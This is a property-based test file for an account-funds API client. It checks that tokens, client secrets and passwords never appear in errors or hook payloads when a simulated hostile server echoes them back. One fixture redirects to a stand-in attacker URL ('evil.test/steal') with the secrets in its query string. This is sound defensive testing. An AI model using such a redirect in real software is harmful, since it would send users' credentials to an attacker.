/**
 * No secret in any error, ever (property): whatever tokens the client is handed — control characters, any Unicode,
 * very long, JWT-shaped, rotated many times (no window: the first token is as safe as the last) — and whatever a
 * hostile server echoes back, in any form (raw, percent-, form-, JSON- or HTML-escaped) and any place (an OData or
 * ProblemDetails body, an HTML page, text, a header, a status text, a redirect's Location), no string reachable from
 * any error the client throws, nor from a hook payload, holds a token, the client secret or the password. In-process
 * (the fake fetch), so many runs are cheap; test/hostile-server/ does the same over real sockets.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { AccountFundsError, TokenRequestError } from "../../../runtime/errors/errors.js";
import { json, type RecordedRequest } from "../fake-fetch.js";
import { harness } from "../harness.js";
import { hostileToken, isSendable, leakForms, leaksIn } from "../secret-leaks.js";

type Echo = "odata" | "problem" | "html" | "text" | "header" | "redirect";
const echoes: readonly Echo[] = ["odata", "problem", "html", "text", "header", "redirect"];

/** A hostile answer that repeats `secrets` in every form, in the place `echo` says. */
function echoing(echo: Echo, secrets: readonly string[], status: number): Response {
  const forms = secrets.flatMap(leakForms);
  const all = forms.join(" ");
  const headerSafe = secrets.map((secret) => encodeURIComponent(secret.replace(/[\uD800-\uDFFF]/g, ""))).join(" ");
  switch (echo) {
    case "odata":
      return json(status, {
        error: { code: "Echo", message: all, details: forms.map((form) => ({ target: form, message: form })) },
        innererror: { access_token: secrets[0], seen: forms },
      });
    case "problem":
      return json(
        status,
        { title: all, detail: all, errors: Object.fromEntries(forms.map((form) => [form, [form]])) },
        { "content-type": "application/problem+json" },
      );
    case "html":
      return new Response(
        `<!doctype html><html><head><title>${all}</title></head><body><h1>${all}</h1></body></html>`,
        {
          status,
          headers: { "content-type": "text/html" },
        },
      );
    case "text":
      return new Response(all, { status });
    case "header":
      return new Response(null, {
        status,
        statusText: headerSafe.slice(0, 200).replace(/[^\x20-\x7e]/g, ""),
        headers: { "x-echo": headerSafe, "www-authenticate": `Bearer error_description="${headerSafe}"` },
      });
    case "redirect":
      return new Response(all, { status: 307, headers: { location: `https://evil.test/steal?t=${headerSafe}` } });
  }
}

/** Every secret sent in an `Authorization` header so far. */
function bearerTokens(requests: readonly RecordedRequest[]): string[] {
  return requests.flatMap((request) => {
    const header = request.headers["authorization"];
    return header === undefined ? [] : [header.replace(/^Bearer /, "")];
  });
}

const secretArbitrary = hostileToken;

describe("no secret in any error (property)", () => {
  it("a token provider's tokens, rotated on every call, and whatever the API echoes", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(hostileToken, { minLength: 1, maxLength: 24 }),
        fc.constantFrom(...echoes),
        fc.constantFrom(400, 404, 409, 429, 500, 503),
        async (tokens, echo, status) => {
          let next = 0;
          const payloads: unknown[] = [];
          const record = (info: unknown): void => void payloads.push(info);
          const { server, client } = harness({
            auth: { credentials: undefined, tokenProvider: () => tokens[next++ % tokens.length]! },
            hooks: { onRequest: record, onResponse: record, onRetry: record, onError: record },
            maxRetries: 0,
          });
          server.on("GET", "/api/v1/Accounts(1)", () => json(200, { Id: 1 }));
          const failures: unknown[] = [];
          // Every token goes out (or is refused) once; then the API echoes every one it saw.
          for (let call = 0; call < tokens.length - 1; call++) {
            await client.accounts.getAccount(1).catch((error: unknown) => failures.push(error));
          }
          server.on("GET", "/api/v1/Accounts(1)", () => echoing(echo, bearerTokens(server.requests), status));
          server.on("POST", "/api/v1/Transfers/1/Approve", () => echoing(echo, bearerTokens(server.requests), status));
          await client.accounts.getAccount(1).catch((error: unknown) => failures.push(error));
          await client.transfers.approveTransfer(1).catch((error: unknown) => failures.push(error));

          expect(failures.length).toBeGreaterThan(0);
          for (const failure of failures) {
            expect(failure).toBeInstanceOf(AccountFundsError);
            expect(leaksIn(failure, tokens)).toEqual([]);
          }
          expect(leaksIn(payloads, tokens)).toEqual([]);
          // A token that cannot be a header value was refused before anything was sent, saying so.
          const unsendable = tokens.filter((token) => !isSendable(token));
          if (unsendable.length > 0) {
            expect(failures.some((failure) => (failure as TokenRequestError).code === "invalid_token")).toBe(true);
          }
          for (const sent of bearerTokens(server.requests)) expect(isSendable(sent)).toBe(true);
        },
      ),
      { numRuns: 40 },
    );
  });

  it("the password grant's client secret, password and every token issued, echoed by the token service", async () => {
    await fc.assert(
      fc.asyncProperty(
        secretArbitrary,
        secretArbitrary,
        fc.uniqueArray(hostileToken, { minLength: 1, maxLength: 16 }),
        fc.constantFrom(...echoes),
        async (clientSecret, password, tokens, echo) => {
          fc.pre(new Set([clientSecret, password, ...tokens]).size === tokens.length + 2);
          const secrets = [clientSecret, password, ...tokens];
          const { server, client } = harness({
            auth: { credentials: { clientId: "client-1", clientSecret, username: "u@example.com", password } },
            maxRetries: 0,
          });
          let issued = 0;
          // A server can echo what it was sent and what it issued, not tokens it has yet to issue.
          const known = (): string[] => [clientSecret, password, ...tokens.slice(0, issued)];
          server.on("POST", "/connect/token", () =>
            issued < tokens.length
              ? json(200, { access_token: tokens[issued++], expires_in: 900, token_type: "Bearer", scope: "s" })
              : echoing(echo, known(), 400),
          );
          // The API refuses every token (401): each call burns a token and a fresh one, so all are issued.
          server.on("GET", "/api/v1/Accounts(1)", () => echoing(echo === "redirect" ? "odata" : echo, known(), 401));
          const failures: unknown[] = [];
          for (let call = 0; call <= tokens.length; call++) {
            await client.accounts.getAccount(1).catch((error: unknown) => failures.push(error));
          }
          expect(issued).toBe(tokens.length);
          expect(failures.some((failure) => failure instanceof TokenRequestError)).toBe(true);
          for (const failure of failures) {
            expect(failure).toBeInstanceOf(AccountFundsError);
            expect(leaksIn(failure, secrets)).toEqual([]);
          }
        },
      ),
      { numRuns: 20 },
    );
  });
});
